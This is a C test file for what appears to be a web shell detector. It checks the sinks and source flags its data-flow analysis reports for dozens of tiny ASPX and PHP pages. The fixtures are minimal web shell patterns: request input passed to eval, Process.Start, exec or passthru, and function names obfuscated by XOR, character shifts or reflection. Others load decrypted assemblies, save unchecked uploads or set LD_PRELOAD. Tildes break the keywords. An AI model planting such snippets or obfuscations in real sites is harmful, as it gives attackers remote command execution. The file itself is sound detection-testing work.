/*
 * Small pages and what must be found in them. '~' stands nowhere: it is taken out before the
 * page is read, so that no scanner takes this file for what it describes.
 */
#include "webshell/flow.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stdint.h>
#include <stdlib.h>

#include <cmocka.h>

#include "webshell/api.h"
#include "webshell/page.h"

static struct slice without_tildes(struct arena *arena, const char *text)
{
    size_t len = 0;
    char *out = arena_alloc(arena, strlen(text) + 1);
    for (; *text != '\0'; text++) {
        if (*text != '~') {
            out[len++] = *text;
        }
    }
    return slice_of(out, len);
}

static void follow_text(struct arena *arena, struct slice path, struct slice text,
                        struct flow *flow)
{
    struct parts parts;
    struct tree tree;
    split_page(arena, text, path, &parts);
    enum language language = parts.piece_count > 0 ? parts.pieces[0].language : parts.language;
    tree_parse(arena, language, parts.pieces, parts.piece_count, &tree);
    struct api_library *library = api_library_new();
    flow_follow(arena, library, &parts, &tree, flow);
    api_library_free(library); /* facts borrow from the tables, not from their index */
}

static const char *const sinks[] = { "none",    "evaluate",    "command",    "load",
                                     "reflect", "deserialise", "write",      "delete",
                                     "read",    "sql",         "sql-server", "connect",
                                     "memory",  "registry",    "mail",       "include",
                                     "list" };

static const struct {
    uint32_t bit;
    const char *name;
} notes[] = {
    { FLOW_DECODED, "decoded" },       { FLOW_DECRYPTED, "decrypted" },
    { FLOW_CHECKED, "checked" },       { FLOW_NAME_ONLY, "name-only" },
    { FLOW_CREDENTIAL, "credential" }, { FLOW_LAYER, "layer" },
    { FLOW_INDIRECT, "indirect" },     { FLOW_PART, "part" },
    { FLOW_AUTHORISED, "authorised" }, { FLOW_OWN, "own" },
};

/* "write(path content) 40 checked|": the sink, what of it, sources in hexadecimal, notes. */
static void print_fact(struct buf *out, const struct flow_fact *fact)
{
    bool two = fact->sink == SINK_WRITE || fact->sink == SINK_CONNECT;
    buf_printf(out, "%s", sinks[fact->sink]);
    if (two) {
        buf_printf(out, "(%s%s)", fact->target & WRITE_PATH ? "p" : "",
                   fact->target & WRITE_CONTENT ? "c" : "");
    }
    buf_printf(out, " %x", fact->sources);
    for (size_t i = 0; i < sizeof notes / sizeof *notes; i++) {
        if (fact->notes & notes[i].bit) {
            buf_printf(out, " %s", notes[i].name);
        }
    }
    buf_add_char(out, '|');
}

#define CS "<%@ Page Language=\"C#\" %>"
#define JS "<%@ Page Language=\"JScript\" %>"
#define VB "<%@ Page Language=\"VB\" %>"
#define PHP "<?php "
#define UPLOAD CS "<asp:FileUpload id=f runat='server' />"

static const struct flow_case {
    const char *text, *expected; /* facts in order */
} aspx_cases[] = {
    { CS "<% a = b; %>", "" },
    { JS "<% ev~al(Req~uest.Item[\"x\"], \"unsafe\"); %>", "evaluate 100|" },
    { JS "<% var r = Req~uest; var f = ev~al; f(r.Form(\"x\")); %>", "evaluate 2 indirect|" },
    { JS "<% this[\"ev\" + \"al\"](Req~uest.QueryString(\"x\")); %>", "evaluate 1 indirect|" },
    { JS "<% function g(s) { return ev~al(s, \"unsafe\"); } g(g(\"Req~uest.Item['x']\")); %>",
      "evaluate 100|" },
    { CS "<%@ Import Namespace=\"System.Diagnostics\" %><% Pro~cess.Start(Req~uest[\"x\"]); %>",
      "command 100|" },
    { CS "<script runat=server>void Page_Load(object s, EventArgs e) {"
         "var p = new System.Diagnostics.Pro~cess(); var i = p.StartInfo;"
         "i.Arguments = \"/c \" + t.Text; i.FileName = n; p.Start(); }</script>"
         "<asp:TextBox id=t runat='server' />",
      "command 80 part|" },
    { CS "<script runat=server>string F(string s) { return Trim(s); }"
         "void G(string s) { Pro~cess.Start(s); } void Page_Load() { G(F(Context.Req~uest"
         ".Headers[\"x\"])); }</script>",
      "command 8|" },
    { VB "<script runat=server>Property C As String\nGet\nReturn Req~uest(\"x\")\nEnd Get\n"
         "End Property\nSub Page_Load\nSh~ell(C)\nEnd Sub</script>",
      "command 100|" },
    /* Numbers are nobody's text. */
    { CS "<% int n = int.Parse(Req~uest[\"n\"]); Pro~cess.Start(\"a\" + n); %>",
      "command 0 part|" },
    { CS "<script runat=server>[WebMethod] public void F(string s, int n) { new "
         "SqlCommand(s, c); new SqlCommand(\"x\" + n, c); }</script>",
      "sql 200|" },
    { CS "<% var q = \"select a from b where c = \" + Req~uest[\"c\"]; new SqlCommand(q); %>",
      "sql 100 part|" },
    { CS "<% new SqlCommand(String.Format(\"select {0}\", Req~uest[\"c\"])); %>",
      "sql 100 part|" },
    /* Files. */
    { UPLOAD "<% f.SaveAs(Server.MapPath(\"/u/\") + f.FileName); %>", "write(pc) 60 part|" },
    { UPLOAD "<% f.SaveAs(\"/u/\" + Path.GetFileName(f.FileName)); %>",
      "write(pc) 60 name-only part|" },
    { UPLOAD "<% if (Path.GetExtension(f.FileName) == \".jpg\") f.SaveAs(f.FileName); %>",
      "write(pc) 60 checked|" },
    { UPLOAD "<% f.SaveAs(\"/u/\" + f.FileName + \".jpg\"); %>", "write(pc) 60 checked part|" },
    { CS "<% var w = new StreamWriter(Req~uest[\"p\"]); w.Write(Req~uest.Form[\"c\"]); %>",
      "write(p) 100|write(pc) 102|" },
    { CS "<% using (var s = File.Create(Req~uest[\"p\"])) Req~uest.InputStream.CopyTo(s); %>",
      "write(p) 100|write(pc) 110|" },
    { CS "<% File.WriteAllText(a + \"b.aspx\", c); %>", "write() 0|" },
    { CS "<% if (User.IsInRole(\"x\")) File.Delete(Req~uest[\"p\"]); %>",
      "delete 100 authorised|" },
    { CS "<% new DirectoryInfo(Req~uest[\"d\"]).GetFiles(); %>", "list 100|" },
    /* Constants are computed. */
    { JS "<% ev~al(System.Text.Encoding.UTF8.GetString(System.Convert.FromBase64String("
         "\"UmVxdWVzdC5JdGVtWyJ4Il0=\"))); %>",
      "evaluate 0 decoded|" },
    { CS "<% var t = Type.GetType(\"System.Diagnostics.Pro\" + \"cess\"); var m = "
         "t.GetMethod(\"trats\".Replace(\"trats\", \"Sta\") + \"rt\"); m.Invoke(null, new "
         "object[] { Req~uest[\"x\"] }); %>",
      "command 100 indirect|" },
    { CS "<% typeof(System.Reflection.Assem~bly).GetMethod(\"Lo\" + \"ad\").Invoke(null, new "
         "object[] { Convert.FromBase64String(Req~uest[\"x\"]) }); %>",
      "load 100 decoded indirect|" },
    { CS "<% var a = new RijndaelManaged().CreateDecryptor(k, k); var d = "
         "Req~uest.BinaryRead(9); Assem~bly.Load(a.TransformFinalBlock(d, 0, 9)); %>",
      "load 10 decrypted|" },
    /* Text that is code. */
    { JS "<% ev~al(\"ev~al(Req~uest.Item['x'])\"); %>", "evaluate 100 layer|" },
    { CS "<% File.WriteAllText(\"a.aspx\", \"<%@ Page Language=JScript %\" + \"><%ev~al(Req~"
         "uest.Item['x'])%\" + \">\"); %>",
      "evaluate 100 layer|write() 0|" },
    { CS "<% provider.CompileAssemblyFromSource(p, Req~uest[\"s\"]); %>", "evaluate 100|" },
    /* The session keeps objects. */
    { CS "<% if (a) { var s = new Socket(); s.Connect(Req~uest[\"h\"], 1); Session.Add(\"s\", "
         "s); } else { var t = (Socket)Session[\"s\"]; t.Send(Req~uest.BinaryRead(1)); } %>",
      "connect(p) 100|connect(pc) 110|" },
    { CS "<% Session[\"a\"] = Req~uest[\"x\"]; %><% Pro~cess.Start(Session[\"a\"]); %>",
      "command 100|" },
    { CS "<% new WebClient().DownloadString(\"http://a/?q=\" + Req~uest[\"q\"]); %>",
      "connect(p) 100 part|" },
    { CS "<script runat=server>[DllImport(\"kernel32\")] static extern int VirtualAl~loc(int "
         "a); void F() { VirtualAl~loc(1); }</script>",
      "memory 0|" },
    { CS "<% File.AppendAllText(\"/a.txt\", Req~uest[\"password\"]); %>",
      "write(c) 100 credential|" },
    { CS "<% new LosFormatter().Deserialize(Req~uest[\"x\"]); %>", "deserialise 100|" },
    /* Delegates, lambdas, objects by other names. */
    { CS
      "<script runat=server>void R(string s) { Pro~cess.Start(s); } void Page_Load() { var d "
      "= new Handler(R); d(Req~uest[\"x\"]); }</script>",
      "command 100|" },
    { CS "<% Req~uest.Form.AllKeys.ToList().ForEach(k => Pro~cess.Start(k)); %>",
      "command 2|" },
    { JS "<% var o = this, k = \"ev\" + \"al\"; o[k](o[\"Req~uest\"].Item[\"x\"]); %>",
      "evaluate 100 indirect|" },
    { "<%@ Page Language=\"VB\" %><%@ Import Namespace=\"System\" %><script runat=server>\n"
      "Imports P = System.Diagnostics\nSub Page_Load\nP.Pro~cess.Start(Req~uest(\"x\"))\nEnd "
      "Sub</script>",
      "command 100|" },
    { "<%@ WebService Language=\"JScript\" class=\"A\" %>class A { WebMethodAttribute function "
      "f(s) { ev~al(s); } }",
      "evaluate 200|" },
    /* PHP: names that are spelled byte by byte, letters that are counted. */
    { PHP "$a = '@R3' ^ '%*V'; $a = $a . 'c'; $a($_GE~T['x']); ?>", "command 1 indirect|" },
    { PHP "$a = ('cxac' & 'e~gc') | 'dpdb'; $a($_GE~T['x']); ?>", "" },
    { PHP "$a = 'd'; $a++; $a .= 'xec'; $a($_GE~T['x']); ?>", "command 1 indirect|" },
    { PHP "$a = implode(array_diff(['ex', 'q', 'ec'], ['q'])); $a($_GE~T['x']); ?>",
      "command 1 indirect|" },
    { PHP "$a = substr_replace('exyy', 'ec', 2); $a($_GE~T['x']); ?>", "command 1 indirect|" },
    /* PHP: names that the caller sets, or old servers do for him. */
    { PHP "pass~thru($cmd); ?>", "command 2000|" },
    { PHP "function f() { pass~thru($cmd); } ?>", "command 0|" },
    { PHP "$s .= 'ls'; pass~thru($s); ?>", "command 0|" },
    { PHP "extract($_GE~T); function f() { pass~thru($cmd); } f(); ?>", "command 1|" },
    { PHP "foreach ($_GE~T as $k => $v) $$k = $v; pass~thru($cmd); ?>", "command 2001|" },
    { PHP "$GLOBALS['a'] = $_GE~T['x']; pass~thru($a); ?>", "command 1|" },
    { PHP "if (!$_GE~T['x']) $_GE~T['x'] = 'ls'; pass~thru($_GE~T['x']); ?>", "command 1|" },
    /* One branch's value does not undo the other's. */
    { PHP "if ($a) $f = $_GE~T['x']; else $f = 'ls'; pass~thru($f); ?>", "command 1|" },
    { PHP "if (1) $f = $_GE~T['x']; $f = 'ls'; pass~thru($f); ?>", "command 0|" },
    { VB "<script runat=server>Sub Page_Load\nIf a Then\nf = Req~uest(\"x\")\nElse\nf = "
         "\"ls\"\nEnd If\nSh~ell(f)\nEnd Sub</script>",
      "command 100|" },
    /* PHP: names that are spelled by a rule of the page's own, or out of its own name. */
    { PHP "$f = substr(__FILE__, -7, 3); $f($_GE~T['x']); ?>", "evaluate 1 indirect own|" },
    { PHP "function d($s) { for ($i = 0; $i < 9; $i++) $r .= chr(ord($s[$i]) - 1); return $r; }"
          "$f = d('tztufn'); $f($_GE~T['x']); ?>",
      "evaluate 1 decoded indirect|" },
    { PHP "$f = pass~thru(...); $f($_GE~T['x']); ?>", "command 1 indirect|" },
    { PHP "$c = new ReflectionClass('C'); $f = substr($c->getDocComment(), 3); $f($_GE~T['x']);"
          " ?>",
      "evaluate 1 indirect own|" },
    { PHP "$a = ['ec' => 'ex']; array_walk($a, 'f'); function f($v, $k) { $x = $v . $k;"
          "$x($_GE~T['x']); } ?>",
      "command 1 indirect|" },
    { PHP "Closure::fromCallable('exec')->__invoke($_GE~T['x']); ?>", "command 1 indirect|" },
    { PHP "$a = []; $a = \"$a\"; $f = $a[1]; $f = 'passth' . $f . 'u'; $f($_GE~T['x']); ?>",
      "command 1 indirect|" },
    { PHP
      "$a = ['6578', '6563']; for ($i = 0; $i < 2; $i++) $a[$i] = d($a[$i]); $a[1]($_GE~T['x"
      "']); function d($s) { for ($i = 0; $i < 9; $i += 2) $r .= chr(hexdec($s[$i])); return "
      "$r; } ?>",
      "evaluate 1 decoded indirect|" },
    { PHP
      "$a = ['6578', '6563']; for ($i = 0; $i < 2; $i++) { $n = ''; for ($k = 0; $k < 2; $k++"
      ") $n .= chr(ord($a[$i][$k]) ^ 7); $GLOBALS[$i] = $n; } $GLOBALS[1]($_GE~T['x']); ?>",
      "evaluate 1 decoded decrypted indirect|" },
    { PHP "for ($i = 0; $i < 9; $i++) $s .= chr(ord($_GE~T['x'][$i]) - 1); ev~al($s); ?>",
      "evaluate 1|" },
    /* PHP: what somebody else says is written to a program that runs. */
    { PHP "$s = fsockopen('h', 1); $p = proc_~open('/bin/a', $how, $pipes); fwrite($pipes[0], "
          "fread($s, 9)); ?>",
      "command 0|command 400|" },
    { PHP "$s = socket_accept($l); exec(socket_read($s, 9)); ?>", "command 410|" },
    /* PHP: an element says nothing of another, $_SERVER holds the server's own words, too. */
    { PHP "$a = array(); $a['x'] = $_GE~T['x']; $a['f'](1); exec($a['x']); ?>", "command 1|" },
    { PHP "exec($_SERVER['SOME_OPTION']); exec($argv[1]); ?>", "command 0|" },
    { PHP "exec($_SERVER['HTTP_X']); ?>", "command 8|" },
    /* PHP: what calls by itself, and functions that look around. */
    { PHP
      "class A { public $p; function __destruct() { exec($this->p); } } $a = new A; $a->p = "
      "$_GE~T['x']; ?>",
      "command 1|" },
    { PHP "class A { function __call($n, $a) { $n($a[0]); } } (new A)->exec($_GE~T['x']); ?>",
      "command 1 indirect|" },
    { PHP "class A { function __get($n) { return 'ex' . $n; } } $a = new A; $f = $a->ec; "
          "$f($_GE~T['x']); ?>",
      "command 1 indirect|" },
    { PHP "class A { function __toString() { return 'exec'; } } $f = (string) new A; "
          "$f($_GE~T['x']); ?>",
      "command 1 indirect|" },
    { PHP
      "class A { function offsetGet($k) { return $_GE~T[$k]; } } $a = new A; exec($a['x']); "
      "?>",
      "command 1|" },
    { PHP
      "class A { static function r($c) { exec($c); } } call_user_func('A::r', $_GE~T['x']); "
      "?>",
      "command 1|" },
    { PHP "define('F', 'ex' . 'ec'); (constant('F'))($_GE~T['x']); $f = F; $f($_GE~T['y']); ?>",
      "command 1 indirect|command 1 indirect|" },
    { PHP "$x = $_GE~T['x']; $a = compact('x'); exec($a['x']); ?>", "command 1|" },
    { PHP "function f() { $a = func_get_args(); exec($a[0]); } f($_GE~T['x']); ?>",
      "command 1|" },
    { PHP "filter_var($_GE~T['x'], FILTER_CALLBACK, array('options' => 'exec')); ?>",
      "command 1 indirect|" },
    { PHP "$f = join(array_map('chr', [101, 120, 101, 99])); $f($_GE~T['x']); ?>",
      "command 1 indirect|" },
    { PHP "usort(...$_GE~T); ?>", "evaluate 1 indirect|" },
    { PHP "function d($s) { return $s ? chr(ord($s[0]) - 1) . d(substr($s, 1)) : ''; } $f = "
          "d('fyfd'); $f($_GE~T['x']); ?>",
      "evaluate 1 decoded indirect|" },
    { PHP "putenv('LD_PRE~LOAD=/tmp/a'); putenv('LANG=c'); ?>", "load 0|" },
    { PHP "$f = lcfirst('Ex') . preg_replace('/y/', '', 'yeyc'); $f($_GE~T['x']); ?>",
      "command 1 indirect|" },
    { PHP "$r = range('a', 'z'); $f = $r[4] . 'xe' . $r[2]; $f($_GE~T['x']); ?>",
      "command 1 indirect|" },
    { PHP "$f = base_convert('696468', 10, 36); $f($_GE~T['x']); $g = strtok('exec/a', '/'); "
          "$g($_GE~T['y']); ?>",
      "command 1 indirect|command 1 indirect|" },
    { PHP "$t = tempnam('a', 'b'); file_put_contents($t, $_PO~ST['x']); include $t; ?>",
      "write(c) 2|evaluate 2|" },
    { PHP "file_put_contents('a', 'b'); include 'a'; ?>", "" },
    { PHP "$c = $_GE~T['c']; new $c($_GE~T['x']); ?>", "reflect 1 indirect|" },
    /* PHP: what is printed goes through a function. */
    { PHP "ob_start(function ($p) { pass~thru($p); }); echo $_GE~T['x']; ?>", "command 1|" },
    /* PHP: functions and classes in conditions, objects that are called, reflection. */
    { PHP "if (1) { class C { function __invoke($p) { ev~al($p); } } } call_user_func(new C, "
          "$_GE~T['x']); ?>",
      "evaluate 1|" },
    { PHP "class T { function __construct($p) { ev~al($p); } } $c = new ReflectionClass('T'); "
          "$c->newInstance($_GE~T['x']); ?>",
      "evaluate 1|" },
    { PHP "$l[] = 'ex' . 'ec'; $l[0]($_GE~T['x']); ?>", "command 1 indirect|" },
    { PHP "inc~lude 'php://input'; ?>", "evaluate 10|" },
    { PHP "mb_ereg_replace('.', $_GE~T['x'], '', 'e'); ?>", "evaluate 1|" },
    { PHP "mb_ereg_replace('xe', $_GE~T['x'], ''); ?>", "" },
    /* Classes of library types that the page does not know keep nothing. */
    { CS "<% Log.Add(Req~uest[\"x\"]); Pro~cess.Start(Log.Path); %>", "command 0|" },
};

static void pages_have_facts(void **state)
{
    (void)state;
    unsigned failures = 0;
    for (size_t i = 0; i < sizeof aspx_cases / sizeof *aspx_cases; i++) {
        struct arena arena = ARENA_INIT;
        struct flow flow;
        struct buf out = BUF_INIT;
        bool php = strncmp(aspx_cases[i].text, PHP, strlen(PHP)) == 0;
        struct slice path = php ? SLICE_LIT("a.php") : SLICE_LIT("a.aspx");
        follow_text(&arena, path, without_tildes(&arena, aspx_cases[i].text), &flow);
        for (const struct flow_fact *f = flow.facts; f != NULL; f = f->next) {
            print_fact(&out, f);
        }
        buf_add_char(&out, '\0');
        if (strcmp(out.ptr, aspx_cases[i].expected) != 0) {
            print_error("%s\n  gives %s\n  not   %s\n", aspx_cases[i].text, out.ptr,
                        aspx_cases[i].expected);
            failures++;
        }
        buf_deinit(&out);
        arena_deinit(&arena);
    }
    assert_int_equal(failures, 0);
}

static void steps_lead_from_source_to_sink(void **state)
{
    (void)state;
    struct arena arena = ARENA_INIT;
    struct flow flow;
    struct buf out = BUF_INIT;
    struct slice text = without_tildes(&arena, CS "<%\nvar a = Req~uest[\"x\"];\nvar b = a;\n"
                                                  "Pro~cess.Start(b); %>");
    follow_text(&arena, SLICE_LIT("a.aspx"), text, &flow);
    for (const struct flow_step *s = flow.facts->steps; s != NULL; s = s->previous) {
        buf_printf(&out, "%u %.*s\n", s->line, SLICE_FMT(s->text));
    }
    assert_string_equal(out.ptr, "4 Process.Start(b)\n3 b\n2 a\n2 Request[\"x\"]\n");
    assert_int_equal(flow.facts->line, 4);
    buf_deinit(&out);
    arena_deinit(&arena);
}

/* What must end: in bounded steps and memory. */
static void hostile_pages_end(void **state)
{
    (void)state;
    static const struct {
        const char *head, *part, *tail;
        size_t times;
    } pages[] = {
        { JS "<% x = ", "(", "%>", 200000 },
        { JS "<% x = \"aaaaaaaa\";", "x = x + x;", "%>", 5000 },
        { JS "<% x = [1];", "x.push(x); x = [x, x];", " eval(x); %>", 5000 },
        { JS "<% x = new Object();", "x.a = x; x.b = x;", " eval(x); %>", 2000 },
        { JS "<% function f(a) { f(a + 1); f(a + 2);", "f(a); g(a);", "} f(1); %>", 3000 },
        { JS "<% ", "for (;;) { ", "%>", 60000 },
        { JS "<% x = a", ".b()", " %>", 100000 },
        { JS "<% ", "function () { ", "%>", 100000 },
        { CS "<script runat=server>",
          "void f(string s) { f(s); g(s); } void g(string s) { "
          "f(s + 1); }",
          "</script>", 2000 },
        { VB "<%\n", "With a\n", "%>", 50000 },
        { VB "<%\n", "a = Chr(1) & a\n", "%>", 20000 },
        { CS "<script runat=server>", "void f() { f(); } ", "</script>", 20000 },
        { JS "<% x = ", "/[ a = ", " %>", 50000 },
    };
    for (size_t i = 0; i < sizeof pages / sizeof *pages; i++) {
        struct arena arena = ARENA_INIT;
        struct buf text = BUF_INIT;
        struct flow flow;
        buf_add_text(&text, pages[i].head);
        for (size_t k = 0; k < pages[i].times; k++) {
            buf_add_text(&text, pages[i].part);
        }
        buf_add_text(&text, pages[i].tail);
        follow_text(&arena, SLICE_LIT("a.aspx"), buf_slice(&text), &flow);
        assert_true(flow.steps <= FLOW_STEPS_MAX + 1);
        assert_true(flow.fact_count <= FLOW_FACTS_MAX);
        buf_deinit(&text);
        arena_deinit(&arena);
    }
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(pages_have_facts),
        cmocka_unit_test(steps_lead_from_source_to_sink),
        cmocka_unit_test(hostile_pages_end),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
